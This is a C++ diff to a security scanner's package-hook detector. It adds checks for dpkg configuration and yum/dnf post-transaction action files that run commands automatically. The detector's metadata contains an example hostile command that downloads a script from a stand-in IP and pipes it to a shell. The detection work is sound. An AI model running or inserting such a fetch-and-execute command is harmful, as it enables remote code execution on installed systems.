@@ -113,6 +113,31 @@ void read_npm(std::string_view text, EvidenceSink& out) {
   }
 }
 
+// dpkg.cfg(5), and the actions of yum's and dnf's plugin.
+bool is_installer_settings(std::string_view path) {
+  const std::string_view folder = layers::base_name(layers::parent_path(path));
+  return path == "etc/dpkg/dpkg.cfg" || folder == "dpkg.cfg.d" ||
+         (folder == "post-transaction-actions.d" && path.ends_with(".action"));
+}
+
+// "post-invoke=COMMAND" of dpkg, "PACKAGE:STATE:COMMAND" of the plugin. dpkg's own are rare, and harmless.
+void read_installer(std::string_view text, EvidenceSink& out) {
+  for (std::uint32_t number = 1; !text.empty(); ++number) {
+    const std::size_t end = std::min(text.find('\n'), text.size());
+    const std::string_view line = text.substr(0, end);
+    text.remove_prefix(std::min(end + 1, text.size()));
+    std::string_view command;
+    for (const std::string_view key : {"post-invoke", "pre-invoke", "status-logger"})
+      if (line.starts_with(key)) command = line.substr(key.size());
+    if (!line.starts_with('#') && command.empty() && std::count(line.begin(), line.end(), ':') >= 2)
+      command = line.substr(line.find(':', line.find(':') + 1) + 1);
+    if (!is_odd_command(command)) continue;
+    Evidence evidence = evidence_of(k_rows[0], std::string(line.substr(0, k_most_shown)));
+    evidence.line = number;
+    out.add(std::move(evidence));
+  }
+}
+
 // Images of distributions throw downloaded packages away after each installation.
 bool only_cleans_up(std::string_view command) {
   static constexpr std::array<std::string_view, 7> k_words = {"rm", "-f", "-rf", "true", "||", "&&", ":"};
@@ -133,11 +158,13 @@ class PackageHooks final : public Detector {
   bool wants(const layers::FileInfo& file) const override {
     if (is_apk_scripts(file.path())) return file.size() > 0 && file.size() <= k_most_archive;
     if (file.size() == 0 || file.size() > k_most_bytes) return false;
-    return start_file_kind(file.path()) == StartFileKind::apt_hook || is_npm_settings(file.path());
+    return start_file_kind(file.path()) == StartFileKind::apt_hook || is_npm_settings(file.path()) ||
+           is_installer_settings(file.path());
   }
 
   void collect(const layers::FileView& file, EvidenceSink& out) const override {
     if (is_npm_settings(file.path())) return read_npm(file.text(), out);
+    if (is_installer_settings(file.path())) return read_installer(file.text(), out);
     if (is_apk_scripts(file.path())) return read_apk_scripts(file, out);
     for (const StartCommand& command : parse_start_file(StartFileKind::apt_hook, file.text()).commands) {
       if (only_cleans_up(command.command)) continue;
@@ -214,7 +241,7 @@ class PackageHooks final : public Detector {
 
 const util::Registered<PackageHooks> registered{{
     .id = "package-hooks",
-    .version = 2,
+    .version = 3,
     .summary = "commands that apt, dpkg and npm run by themselves",
     .example = "apt runs: curl -s http://192.0.2.1/x | sh",
     .rules = k_rows,
